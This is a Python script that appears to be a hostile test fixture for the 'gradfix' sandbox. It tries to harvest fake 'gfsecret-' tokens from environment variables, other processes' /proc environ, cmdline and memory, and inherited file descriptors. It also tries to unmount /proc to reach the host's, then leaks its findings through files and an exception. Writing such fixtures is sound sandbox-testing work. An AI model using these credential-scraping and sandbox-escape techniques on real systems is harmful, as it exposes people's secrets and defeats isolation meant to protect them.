"""Attack: read gradfix's secrets by every path a script has.

The environment as Python sees it; the environment block the kernel keeps (/proc/self/environ: a
fork keeps its parent's); every other process's environment, command line and memory
(/proc/<pid>/environ, cmdline, mem: the parent first); this process's own memory (a fork copies the
parent's heap, and every string it ever held); descriptors inherited from gradfix; /proc again after
trying to unmount the sandbox's own. The fake secrets of tests/test_hostile.py start with
``gfsecret-``. Whatever is found is printed, written everywhere, and put in the exception that ends
the script, so that it reaches gradfix's reports if anything does.
"""

import ctypes
import os
import re
import sys

import torch
import torch.nn as nn

PATTERN = re.compile(rb"gfsecret-[A-Za-z0-9_-]{4,80}")
found: set[str] = set()


def look(data: bytes) -> None:
    found.update(m.group().decode() for m in PATTERN.finditer(data))


def read(path: str) -> bytes:
    try:
        with open(path, "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def scan_memory(pid: str) -> None:
    """Every writable, private region (the heap and anonymous maps, where strings live)."""
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return
    with memory:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 1 << 30:
                continue
            try:
                memory.seek(start)
                look(memory.read(end - start))
            except (OSError, ValueError, OverflowError):
                pass


def processes() -> list[str]:
    return [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []


look("\0".join(f"{k}={v}" for k, v in os.environ.items()).encode())
look(read("/proc/self/environ"))
parent = str(os.getppid())
for pid in {parent, *processes()}:
    look(read(f"/proc/{pid}/environ"))
    look(read(f"/proc/{pid}/cmdline"))
    scan_memory(pid)
scan_memory("self")
for fd in range(3, 256):
    try:
        os.lseek(fd, 0, os.SEEK_SET)
    except OSError:
        pass
    try:
        os.set_blocking(fd, False)
        look(os.read(fd, 1 << 20))
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
libc.umount2(b"/proc", 2)  # MNT_DETACH: the host's /proc may lie underneath
for pid in processes():
    look(read(f"/proc/{pid}/environ"))

report = f"read_secrets found {sorted(found)}"
print(report)
print(report, file=sys.stderr)
for folder in (os.getcwd(), os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(os.path.join(folder, "gfhostile-read_secrets.txt"), "w") as out:
            out.write(report)
    except OSError:
        pass

model = nn.Linear(4, 1)
# An empty parameter list (GF001): gradfix re-runs its fix, and the exception below, with what
# was found, ends up in the reports' "rejected" reasons.
optimizer = torch.optim.SGD([], lr=0.1)
for step in range(3):
    optimizer.zero_grad()
    model(torch.ones(8, 4)).pow(2).mean().backward()
    optimizer.step()
raise RuntimeError(report)
